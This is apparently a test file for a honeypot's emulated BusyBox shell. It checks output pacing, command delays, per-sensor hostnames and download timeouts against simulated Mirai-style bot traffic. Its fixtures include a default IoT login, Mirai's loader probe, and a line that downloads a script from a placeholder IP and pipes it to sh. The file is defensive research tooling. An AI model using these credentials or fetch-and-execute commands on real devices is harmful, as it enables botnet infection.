"""The fake shell's long answers are paced like a device on a slow link."""

from __future__ import annotations

from bbs.honeypot import CHUNK, PACE
from bbs.shell.image import BUSYBOX_SIZE
from tests.world import World


def shell(w: World, ip: str = "203.0.113.40"):
    bot, t = w.connect(ip)
    bot.door_data(b"root\r\nxc3511\r\n")
    t.clear()
    return bot, t


def test_busybox_is_as_big_as_a_real_one():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"ls -l /bin/busybox\r\n")
    assert f" {BUSYBOX_SIZE} " in t.value().decode()
    assert 200_000 < BUSYBOX_SIZE < 1_000_000


def test_a_binary_goes_out_in_chunks_and_the_next_answer_after_it():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    # Mirai's loader: the cat and its token in two lines, often one packet.
    bot.door_data(b"/bin/busybox cat /bin/echo\r\n/bin/busybox ECCHI\r\n")
    sizes = []
    w.clock.advance(0)
    while True:
        sent = t.value()
        t.clear()
        sizes.append(len(sent))
        if b"ECCHI: applet not found" in sent:
            break
        assert len(sizes) < 200
        assert b"ECCHI" not in sent
        w.clock.advance(PACE)
    assert sizes[0] >= CHUNK and sizes[0] < 2 * CHUNK  # the ELF header comes first, alone
    assert len(sizes) >= BUSYBOX_SIZE // CHUNK
    assert sum(sizes) >= BUSYBOX_SIZE
    # The prompt follows the data, and then the token's answer.
    assert sent.index(b"# ") < sent.index(b"ECCHI: applet not found")
    assert sent.endswith(b"ECCHI: applet not found\r\n# ")  # and a prompt after it too


def test_short_answers_are_not_delayed():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"echo hi\r\n")
    assert b"hi" in t.value() and t.value().endswith(b"# ")


def test_a_command_that_takes_time_on_the_device_holds_what_follows():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"echo before; sleep 3; echo after\r\nuname -s\r\n")
    w.clock.advance(0)
    assert b"before" in t.value() and b"after" not in t.value()
    w.clock.advance(2.9)
    assert b"after" not in t.value() and b"Linux" not in t.value()
    w.clock.advance(0.2)
    shown = t.value()
    assert shown.index(b"after") < shown.index(b"Linux") and shown.endswith(b"Linux\r\n# ")


def test_an_unfinished_script_shows_the_continuation_prompt():
    w = World(bot_policy="shell")
    bot, t = shell(w)
    bot.door_data(b"for i in 1 2; do\r\n")
    assert t.value().endswith(b"> ")
    bot.door_data(b"echo n$i; done\r\n")
    assert t.value().endswith(b"n1\r\nn2\r\n# ")


def test_each_sensor_tells_its_own_story_and_always_the_same(tmp_path):
    from bbs.honeypot import _SENSORS

    def hostname(data):
        data.mkdir(exist_ok=True)
        w = World(bot_policy="shell", data=data)
        bot, t = shell(w)
        bot.door_data(b"hostname\r\n")
        return t.value().split(b"\r\n")[0]

    first = hostname(tmp_path / "a")
    other = [hostname(tmp_path / f"s{n}") for n in range(6)]
    _SENSORS.clear()  # as after a restart: read back from the data directory
    assert hostname(tmp_path / "a") == first
    assert len(set(other + [first])) > 1


def test_a_download_from_a_silent_server_fails_after_the_configured_time():
    w = World(bot_policy="shell", shell_net_timeout=2.0)
    bot, t = shell(w)
    bot.door_data(b"wget http://198.51.100.9/x -O- | sh; echo done\r\n")
    w.clock.advance(0)
    assert t.value().endswith(b"(198.51.100.9:80)\r\n")
    w.clock.advance(1.9)
    assert b"done" not in t.value()
    w.clock.advance(0.2)
    assert t.value().endswith(b"done\r\n# ")
